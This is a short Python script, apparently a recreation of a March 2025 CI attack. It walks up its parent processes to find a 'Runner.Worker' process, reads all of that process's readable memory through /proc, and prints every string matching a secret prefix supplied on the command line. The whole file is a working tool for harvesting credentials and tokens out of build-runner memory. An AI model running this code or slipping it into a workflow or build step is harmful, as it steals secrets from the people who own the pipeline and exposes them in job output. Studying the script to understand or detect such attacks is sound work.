"""The memory dump of March 2025: finds the worker by its name, reads all that
can be read of it, and prints what looks like a secret."""

import os
import re
import sys


def above():
    """Only what has started us: other workers on the machine are not ours."""
    pid = os.getppid()
    while pid > 1:
        yield str(pid)
        with open(f"/proc/{pid}/stat") as stat:
            pid = int(stat.read().rsplit(")", 1)[1].split()[1])


def workers():
    for name in above():
        try:
            with open(f"/proc/{name}/cmdline", "rb") as file:
                if b"Runner.Worker" in file.read().split(b"\0")[0]:
                    yield name
        except OSError:
            pass


def secrets(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            match = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
            if not match:
                continue
            start, end = (int(part, 16) for part in match.groups())
            try:
                memory.seek(start)
                chunk = memory.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            yield from re.findall(sys.argv[1].encode() + rb"[a-z0-9-]+", chunk)


for pid in workers():
    print("reading", pid, flush=True)
    try:
        for secret in secrets(pid):
            print(secret.decode(), flush=True)
    except OSError as error:
        print(error)
